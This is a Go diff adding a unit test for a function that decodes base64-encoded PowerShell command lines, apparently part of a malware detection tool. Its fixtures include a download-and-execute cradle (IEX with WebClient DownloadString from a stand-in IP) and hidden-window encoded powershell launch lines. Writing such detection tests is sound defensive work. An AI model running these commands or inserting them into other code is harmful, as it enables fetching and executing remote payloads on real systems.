@@ -249,3 +249,20 @@ func reasons(hits []Hit) []string {
 	}
 	return out
 }
+
+func TestDecodeEncodedPowerShell(t *testing.T) {
+	script := "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')"
+	enc := encodeCommand(script)
+	for _, cmd := range []string{
+		`%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -noni -e ` + enc,
+		`powershell -EncodedCommand ` + enc,
+	} {
+		got, ok := DecodeEncodedPowerShell(cmd)
+		if !ok || got != script {
+			t.Errorf("%q: got %q, %v", cmd, got, ok)
+		}
+	}
+	if _, ok := DecodeEncodedPowerShell(`C:\Program Files\Google\Update\GoogleUpdate.exe /svc`); ok {
+		t.Error("decoded a plain image path")
+	}
+}
